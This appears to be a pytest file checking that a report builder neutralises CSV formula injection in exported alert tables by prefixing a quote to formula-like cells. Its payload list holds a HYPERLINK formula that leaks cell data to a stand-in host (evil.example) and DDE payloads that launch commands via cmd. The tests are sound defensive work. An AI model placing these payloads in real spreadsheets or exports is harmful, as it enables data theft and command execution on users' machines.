"""Finding 5: the audit report's CSVs (alerts.csv, incidents.csv, …) are opened in spreadsheets, and an
event id is attacker-chosen text: a cell that starts like a formula is written with a leading ``'``
(OWASP CSV injection), so the spreadsheet shows it as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from clets_watch.report.builder import Table, csv_cell, write_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised(tmp_path: Path, payload: str) -> None:
    table = Table(
        "alerts.csv", ["alert_id", "event_ids", "count"], [["a1", payload + " ev-2", 3], ["a2", "ev-1", -4]]
    )
    path = write_csv(table, tmp_path / table.name)
    raw = path.read_bytes().decode("utf-8")
    if "\r" in payload:  # a lone CR is not quoted with the "\n" line ending: look at the text itself
        assert "a1,'" + payload + " ev-2,3\n" in raw
    else:
        with path.open(newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        assert rows[1] == ["a1", "'" + payload + " ev-2", "3"]
        assert rows[2] == ["a2", "ev-1", "-4"]  # numbers are data, written as they are
    assert path.stat().st_mode & 0o777 == 0o600


def test_plain_cells_are_left_alone() -> None:
    for value in ("ev-1", "CA0190000", "a=b", "", " =x", 0, -1.5, None):
        assert csv_cell(value) == value
